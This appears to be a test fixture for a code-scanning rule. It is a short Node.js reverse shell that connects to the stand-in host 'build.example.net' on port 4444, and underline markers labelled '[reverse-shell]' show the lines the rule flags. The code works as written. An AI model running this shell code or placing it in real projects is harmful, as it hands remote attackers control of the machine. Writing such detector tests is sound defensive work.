import { spawn } from "node:child_process";
import net from "node:net";

const shell = spawn("/bin/bash", ["-i"]);
              ~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
const link = net.createConnection({ host: "build.example.net", port: 4444 });
link.on("data", (chunk) => shell.stdin.write(chunk));
shell.stdout.on("data", (chunk) => link.write(chunk));
spawn("/bin/sh", [], { stdio: [link, link, link] });
~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
